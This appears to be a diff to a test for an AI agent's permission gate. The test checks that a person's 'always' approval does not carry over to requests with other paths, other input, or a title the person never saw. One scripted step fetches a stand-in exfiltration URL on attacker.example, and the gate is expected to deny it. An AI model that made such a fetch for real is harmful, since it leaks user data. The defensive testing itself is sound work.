@@ -1,7 +1,8 @@
 """A person's "always" covers what the governor knows a request does, never the
-text the agent chose to show: a permission titled as the granted one but naming
-other paths, or naming none with other input, is asked again; the same tool on
-the same paths under another title is covered. The scripted agent over real
+text the agent chose to show alone: a permission titled as the granted one but
+naming other paths, or naming none with other input, is asked again, and so is
+the same tool on the same paths under a title the person never saw; the same
+title, tool and paths with other input (an edit's new text) is covered. The scripted agent over real
 pipes, the real gate; the approver is the library caller's function."""
 
 from __future__ import annotations
@@ -41,7 +42,8 @@ async def test_an_always_covers_the_same_tool_on_the_same_paths_never_the_same_t
     steps = [
         *asking("c1", "Edit notes", "edit", ["{cwd}/notes.md"], {"file_path": "notes.md"}),
         *asking("c2", "Edit notes", "edit", ["{cwd}/other.md"], {"file_path": "other.md"}),
-        *asking("c3", "Tidy up", "edit", ["{cwd}/notes.md"], {"file_path": "notes.md", "n": 2}),
+        *asking("c3", "Edit notes", "edit", ["{cwd}/notes.md"], {"file_path": "notes.md", "n": 2}),
+        *asking("c6", "Tidy up", "edit", ["{cwd}/notes.md"], {"file_path": "notes.md"}),
         *asking("c4", "Look it up", "fetch", [], {"url": "https://example.org/a"}),
         *asking("c5", "Look it up", "fetch", [], {"url": "https://attacker.example/leak"}),
         {"say": "Done."},
@@ -50,7 +52,7 @@ async def test_an_always_covers_the_same_tool_on_the_same_paths_never_the_same_t
 
     def person(ask: Ask) -> str:
         asked.append(ask.subject)
-        return "always" if len(asked) in (1, 3) else "refuse"
+        return "always" if len(asked) in (1, 4) else "refuse"  # c1 and c4
 
     policy = parse_policy('capability = "edit-workspace"\n[ask]\ntools = ["edit", "fetch"]\n', "p.toml")
     outcome = await run_attempt(scripted_spec(tmp_path, steps, approver=person, policy=policy))
@@ -63,11 +65,12 @@ async def test_an_always_covers_the_same_tool_on_the_same_paths_never_the_same_t
     assert settled == {
         "c1": [("allow", "person")],
         "c2": [("deny", "person")],  # the same title, another file: asked again
-        "c3": [("allow", "grant")],  # another title, the same tool on the same file
+        "c3": [("allow", "grant")],  # the same title and tool on the same file, other input
+        "c6": [("deny", "person")],  # another title: the person never saw it
         "c4": [("allow", "person")],
         "c5": [("deny", "person")],  # the same title, no paths, other input: asked again
     }, verdicts
-    assert asked == ["Edit notes", "Edit notes", "Look it up", "Look it up"]
+    assert asked == ["Edit notes", "Edit notes", "Tidy up", "Look it up", "Look it up"]
 
 
 def creating(value: str, secret: str) -> list[Any]:
